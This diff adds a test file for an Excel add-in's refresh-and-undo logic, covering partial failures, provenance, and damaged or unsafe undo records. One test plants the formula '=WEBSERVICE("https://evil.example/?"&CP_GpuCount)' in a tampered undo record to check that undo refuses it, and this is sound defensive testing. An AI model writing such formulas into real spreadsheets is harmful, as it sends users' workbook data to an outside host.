@@ -1,0 +1,355 @@
+/**
+ * Apply and undo stay consistent when Excel fails partway (issue 7): the in-memory host is made to
+ * fail the way Excel does (a failing operation keeps the operations queued before it; an answer can
+ * be lost after everything was applied), and cells, registry and undo record must still agree.
+ */
+import {
+  ExcelOperationFailedError,
+  UnsafeUndoRecordError,
+  userMessage,
+} from "../../../src/excel/errors";
+import { insertTemplate } from "../../../src/excel/insertTemplate";
+import { insertTemplateSpec } from "../../../src/excel/insertCore";
+import { applyRefresh, planRefresh, undoLastRefresh } from "../../../src/excel/refresh";
+import {
+  applyRefreshWith,
+  planRefreshWith,
+  undoLastRefreshWith,
+} from "../../../src/excel/refreshCore";
+import type { RefreshPlan } from "../../../src/excel/refreshCore";
+import {
+  PENDING_KEY,
+  REGISTRY_KEY,
+  UNDO_KEY,
+  parseRegistry,
+} from "../../../src/excel/templateRegistry";
+import type { TemplateRegistry } from "../../../src/excel/templateRegistry";
+import type { LibraryIndex } from "../../../src/model/library/indexLibrary";
+import { buildIndex } from "../../../src/model/library/indexLibrary";
+import { DEFAULT_LIBRARY } from "../../../src/model/library/defaultLibrary";
+import { layerLibrary } from "../../../src/model/library/merge";
+import { LAYOUT, COLUMN } from "../../../src/templates/layout";
+import { fixtureAssumptions, fixtureBuilder } from "./fixtures";
+import { cellAt, defaultIndex, namedCell, newWorkbook, teamIndex } from "./host";
+import type { Workbook } from "./host";
+import type { JsonValue } from "../../../src/excel/memory";
+
+const SCENARIO = "xai-memphis-2024";
+const SHEET = "Rent vs Build";
+const NOW = () => new Date("2026-12-03T09:00:00.000Z");
+const plan = (wb: Workbook, index: LibraryIndex) =>
+  planRefreshWith(wb.excel, index, fixtureAssumptions);
+const apply = (wb: Workbook, p: RefreshPlan, keys: readonly string[]) =>
+  applyRefreshWith(wb.excel, p, keys, { now: NOW });
+
+async function fixtureWorkbook(): Promise<Workbook & { worksheetId: string }> {
+  const wb = newWorkbook();
+  const { worksheetId } = await insertTemplateSpec(
+    wb.excel,
+    fixtureBuilder(defaultIndex, SCENARIO)
+  );
+  wb.stats.reset();
+  return { ...wb, worksheetId };
+}
+
+function registryOf(wb: Workbook): TemplateRegistry {
+  const read = parseRegistry(wb.store.getSetting(REGISTRY_KEY));
+  if (read.status !== "ok") throw new Error(`registry ${read.status}`);
+  return read.registry;
+}
+
+const recorded = (wb: Workbook, id: string, key: string) =>
+  registryOf(wb).sheets[id]?.assumptions[key]?.value;
+
+const row = (p: RefreshPlan, key: string) => {
+  const found = p.rows.find((r) => r.key === key);
+  if (found === undefined) throw new Error(`no row ${key}`);
+  return found;
+};
+
+describe("apply is atomic", () => {
+  it("Given the registry write fails inside the apply batch, Then the cell, the registry and the undo record agree, the message says nothing changed, and a later apply + undo brings back 37500", async () => {
+    const wb = await fixtureWorkbook();
+    const team = teamIndex({ systemPricePerGpu: 31000 });
+    const p = await plan(wb, team);
+    wb.host.faults.failOperation({ location: "SettingCollection.add", key: REGISTRY_KEY });
+    wb.stats.reset();
+
+    const error = await apply(wb, p, ["systemPricePerGpu"]).catch((e: unknown) => e);
+
+    // The failed batch, then one sync to read what it left and one to put it back.
+    expect(wb.stats.syncCount).toBe(3);
+    expect(error).toBeInstanceOf(ExcelOperationFailedError);
+    expect((error as ExcelOperationFailedError).rolledBack).toBe(true);
+    expect(userMessage(error)).toMatch(/were put back: nothing was changed/);
+    expect(wb.host.faults.pending).toBe(0);
+    expect(cellAt(wb.store, SHEET, "B6").value).toBe(37500);
+    expect(recorded(wb, wb.worksheetId, "systemPricePerGpu")).toBe(37500);
+    expect(wb.store.getSetting(UNDO_KEY)).toBeUndefined();
+    expect(wb.store.getSetting(PENDING_KEY)).toBeUndefined();
+
+    // Check for updates: the add-in's own write is not "your edit".
+    const again = await plan(wb, team);
+    expect(row(again, "systemPricePerGpu")).toMatchObject({
+      workbookValue: 37500,
+      isOverride: false,
+      selectedByDefault: true,
+    });
+    await apply(wb, again, ["systemPricePerGpu"]);
+    expect(cellAt(wb.store, SHEET, "B6").value).toBe(31000);
+    await undoLastRefreshWith(wb.excel);
+    expect(cellAt(wb.store, SHEET, "B6").value).toBe(37500);
+    expect(recorded(wb, wb.worksheetId, "systemPricePerGpu")).toBe(37500);
+  });
+
+  it("Given the apply fails and so does its rollback, When the user next checks for updates, Then the pending refresh is reconciled first and the message said so", async () => {
+    const wb = await fixtureWorkbook();
+    const team = teamIndex({ systemPricePerGpu: 31000 });
+    const p = await plan(wb, team);
+    wb.host.faults.failOperation({ location: "SettingCollection.add", key: REGISTRY_KEY });
+    // The apply's own cell write goes through; the rollback's fails.
+    wb.host.faults.failOperation({ location: "Range.values", skip: 1 });
+
+    const error = await apply(wb, p, ["systemPricePerGpu"]).catch((e: unknown) => e);
+
+    expect(error).toBeInstanceOf(ExcelOperationFailedError);
+    expect((error as ExcelOperationFailedError).rolledBack).toBe(false);
+    expect(userMessage(error)).toMatch(/Check for updates .*finish/);
+    expect(wb.store.getSetting(PENDING_KEY)).toBeDefined();
+
+    wb.stats.reset();
+    const again = await plan(wb, team);
+    expect(cellAt(wb.store, SHEET, "B6").value).toBe(37500);
+    expect(wb.store.getSetting(PENDING_KEY)).toBeUndefined();
+    expect(row(again, "systemPricePerGpu")).toMatchObject({
+      isOverride: false,
+      selectedByDefault: true,
+    });
+    expect(wb.stats.syncCount).toBeLessThanOrEqual(3);
+  });
+
+  it("Given the answer of the apply batch is lost after Excel applied it, Then apply reports success and undo works", async () => {
+    const wb = await fixtureWorkbook();
+    const p = await plan(wb, teamIndex({ systemPricePerGpu: 31000 }));
+    wb.host.faults.loseResponse();
+
+    const result = await apply(wb, p, ["systemPricePerGpu"]);
+
+    expect(result).toEqual({ applied: 1 });
+    expect(recorded(wb, wb.worksheetId, "systemPricePerGpu")).toBe(31000);
+    expect(wb.store.getSetting(PENDING_KEY)).toBeUndefined();
+    await undoLastRefreshWith(wb.excel);
+    expect(cellAt(wb.store, SHEET, "B6").value).toBe(37500);
+  });
+
+  it("Given a normal apply, Then it costs one round trip and leaves no pending record", async () => {
+    const wb = await fixtureWorkbook();
+    const p = await plan(wb, teamIndex());
+    wb.stats.reset();
+    await apply(wb, p, ["systemPricePerGpu", "powerPrice"]);
+    expect(wb.stats.syncCount).toBe(1);
+    expect(wb.store.getSetting(PENDING_KEY)).toBeUndefined();
+  });
+});
+
+/** The default library with a team H100 price (and PUE) from a Dell quote. */
+function dellIndex(): LibraryIndex {
+  const merged = layerLibrary(DEFAULT_LIBRARY, {
+    meta: {
+      id: "acme-capacity",
+      name: "Acme capacity library",
+      version: "2.0.0",
+      publishedAt: "2026-12-01",
+      publisher: "Acme finance",
+      description: "Acme's negotiated prices.",
+    },
+    gpus: {
+      "h100-sxm": {
+        systemPricePerGpu: {
+          value: 31000,
+          unit: "USD per GPU",
+          source: "Acme Dell quote Q4",
+          asOf: "2026-11",
+        },
+      },
+    },
+    operations: {
+      pue: { value: 1.18, unit: "ratio", source: "Acme site survey", asOf: "2026-10" },
+    },
+  });
+  if (!merged.ok) throw new Error(JSON.stringify(merged.issues));
+  return buildIndex(merged.library);
+}
+
+const rowOf = (key: keyof typeof LAYOUT.assumptions) => LAYOUT.assumptions[key];
+const at = (wb: Workbook, address: string) => cellAt(wb.store, SHEET, address).value;
+
+describe("undo is atomic, and refresh keeps provenance with the value (rent-vs-build template)", () => {
+  async function rentVsBuild(): Promise<Workbook> {
+    const wb = newWorkbook();
+    await insertTemplate(wb.excel, defaultIndex, SCENARIO);
+    return wb;
+  }
+
+  it("Given the H100 price refreshed to a team value with source 'Acme Dell quote Q4', Then the row's source and as-of and the header's library change with it, and undo restores them", async () => {
+    const wb = await rentVsBuild();
+    const price = rowOf("systemPricePerGpu");
+    const header = `${COLUMN.value}${LAYOUT.header.library}`;
+    const before = {
+      source: at(wb, `${COLUMN.source}${price}`),
+      asOf: at(wb, `${COLUMN.asOf}${price}`),
+      header: at(wb, header),
+    };
+    const p = await planRefresh(wb.excel, dellIndex());
+
+    await applyRefresh(wb.excel, p, ["systemPricePerGpu"]);
+
+    expect(at(wb, `${COLUMN.value}${price}`)).toBe(31000);
+    expect(at(wb, `${COLUMN.source}${price}`)).toBe("Acme Dell quote Q4");
+    expect(at(wb, `${COLUMN.asOf}${price}`)).toBe("2026-11");
+    expect(at(wb, header)).toBe("Acme capacity library 2.0.0 (acme-capacity)");
+
+    await undoLastRefresh(wb.excel);
+    expect(at(wb, `${COLUMN.source}${price}`)).toBe(before.source);
+    expect(at(wb, `${COLUMN.asOf}${price}`)).toBe(before.asOf);
+    expect(at(wb, header)).toBe(before.header);
+  });
+
+  it("Given two inputs refreshed and the name CP_Pue deleted, When undone, Then the price and its registry entry come back, the PUE is reported as not restored, and the undo record is gone", async () => {
+    const wb = await rentVsBuild();
+    const priceBefore = namedCell(wb.store, "CP_SystemPricePerGpu").value;
+    const p = await planRefresh(wb.excel, dellIndex());
+    await applyRefresh(wb.excel, p, ["systemPricePerGpu", "pue"]);
+    wb.store.removeName("CP_Pue");
+
+    const result = await undoLastRefresh(wb.excel);
+
+    expect(result.restored).toBe(1);
+    expect(result.notRestored).toEqual([
+      expect.objectContaining({
+        key: "pue",
+        name: "CP_Pue",
+        reason: expect.stringMatching(/name .*deleted/),
+      }),
+    ]);
+    expect(namedCell(wb.store, "CP_SystemPricePerGpu").value).toBe(priceBefore);
+    const id = Object.keys(registryOf(wb).sheets)[0] ?? "";
+    expect(recorded(wb, id, "systemPricePerGpu")).toBe(priceBefore);
+    expect(registryOf(wb).sheets[id]?.libraryId).toBe("capplan-default");
+    expect(wb.store.getSetting(UNDO_KEY)).toBeUndefined();
+    await expect(undoLastRefresh(wb.excel)).rejects.toMatchObject({ code: "NothingToUndo" });
+  });
+
+  it("Given the undo batch fails partway, Then the next check for updates finishes the undo before comparing", async () => {
+    const wb = await rentVsBuild();
+    const priceBefore = namedCell(wb.store, "CP_SystemPricePerGpu").value;
+    const p = await planRefresh(wb.excel, dellIndex());
+    await applyRefresh(wb.excel, p, ["systemPricePerGpu", "pue"]);
+    wb.host.faults.failOperation({
+      location: "SettingCollection.add",
+      key: REGISTRY_KEY,
+      times: 2,
+    });
+    wb.stats.reset();
+
+    const error = await undoLastRefresh(wb.excel).catch((e: unknown) => e);
+    // Read + the failed batch, then one more try: read + the failed roll-forward.
+    expect(wb.stats.syncCount).toBe(4);
+    expect(userMessage(error)).toMatch(/Undo last refresh again|Check for updates/);
+
+    const again = await planRefresh(wb.excel, dellIndex());
+    expect(namedCell(wb.store, "CP_SystemPricePerGpu").value).toBe(priceBefore);
+    expect(wb.store.getSetting(UNDO_KEY)).toBeUndefined();
+    expect(wb.store.getSetting(PENDING_KEY)).toBeUndefined();
+    expect(row(again, "systemPricePerGpu")).toMatchObject({
+      isOverride: false,
+      selectedByDefault: true,
+    });
+  });
+});
+
+describe("undo writes only what the template could have written", () => {
+  async function refreshed(): Promise<Workbook> {
+    const wb = await fixtureWorkbook();
+    await apply(wb, await plan(wb, teamIndex()), ["powerPrice"]);
+    return wb;
+  }
+
+  function tamper(wb: Workbook, previous: { value: JsonValue; formula: JsonValue }): void {
+    const undo = wb.store.getSetting(UNDO_KEY) as {
+      previous: Record<string, Record<string, JsonValue>>;
+    };
+    const p = undo.previous["powerPrice"];
+    if (p === undefined) throw new Error("no previous");
+    undo.previous["powerPrice"] = { ...p, ...previous };
+    wb.store.setSetting(UNDO_KEY, undo as unknown as JsonValue);
+  }
+
+  it("Given a previous formula that calls a function (WEBSERVICE), When undoing, Then it is refused with a clear message and nothing is written", async () => {
+    const wb = await refreshed();
+    tamper(wb, { value: 0, formula: '=WEBSERVICE("https://evil.example/?"&CP_GpuCount)' });
+
+    const error = await undoLastRefreshWith(wb.excel).catch((e: unknown) => e);
+
+    expect(error).toBeInstanceOf(UnsafeUndoRecordError);
+    expect(userMessage(error)).toMatch(
+      /not a value or formula Capacity Planner could have written/
+    );
+    expect(cellAt(wb.store, SHEET, "B7")).toEqual({ value: 0.081, formula: null });
+  });
+
+  it("Given previous text that looks like a formula, When undoing, Then it is written as text, never as a formula", async () => {
+    const wb = await refreshed();
+    tamper(wb, { value: '=HYPERLINK("https://evil.example")', formula: null });
+    await undoLastRefreshWith(wb.excel);
+    expect(cellAt(wb.store, SHEET, "B7").formula).toBeNull();
+  });
+
+  it("Given a user formula of numbers and the sheet's own names, When undoing, Then it comes back", async () => {
+    const wb = await refreshed();
+    tamper(wb, { value: 0.06, formula: "=CP_RentalRate/40+0.01" });
+    await undoLastRefreshWith(wb.excel);
+    expect(cellAt(wb.store, SHEET, "B7").formula).toBe("=CP_RentalRate/40+0.01");
+  });
+});
+
+describe("an undo that can never succeed does not stay", () => {
+  it("Given the refreshed sheet was deleted, When undoing, Then the user is told and the record is set aside, so the next undo has nothing to do", async () => {
+    const wb = await fixtureWorkbook();
+    await apply(wb, await plan(wb, teamIndex()), ["powerPrice"]);
+    wb.store.removeSheet(wb.worksheetId);
+
+    await expect(undoLastRefreshWith(wb.excel)).rejects.toMatchObject({
+      code: "RefreshedSheetMissing",
+    });
+    await expect(undoLastRefreshWith(wb.excel)).rejects.toMatchObject({ code: "NothingToUndo" });
+    expect(wb.store.getSetting("capplan.undo.refused")).toBeDefined();
+  });
+
+  it("Given a damaged undo record, When undoing, Then it is reported and set aside verbatim", async () => {
+    const wb = await fixtureWorkbook();
+    wb.store.setSetting(UNDO_KEY, { version: 1, previous: 3 });
+
+    await expect(undoLastRefreshWith(wb.excel)).rejects.toMatchObject({
+      code: "CorruptUndoRecord",
+    });
+    expect(wb.store.getSetting("capplan.undo.refused")).toEqual({ version: 1, previous: 3 });
+    await expect(undoLastRefreshWith(wb.excel)).rejects.toMatchObject({ code: "NothingToUndo" });
+  });
+});
+
+describe("undo after the template was replaced by a sheet of the same name", () => {
+  it("Given the refreshed template deleted and a plain sheet given its name, When undoing, Then nothing is written on that sheet and it does not become a template", async () => {
+    const wb = await fixtureWorkbook();
+    await apply(wb, await plan(wb, teamIndex()), ["powerPrice"]);
+    wb.store.removeSheet(wb.worksheetId);
+    const impostor = wb.store.addSheet(SHEET);
+
+    await expect(undoLastRefreshWith(wb.excel)).rejects.toMatchObject({
+      code: "RefreshedSheetMissing",
+    });
+
+    expect(wb.store.getUsedBounds(impostor.id, false)).toBeNull();
+    expect(registryOf(wb).sheets[impostor.id]).toBeUndefined();
+  });
+});
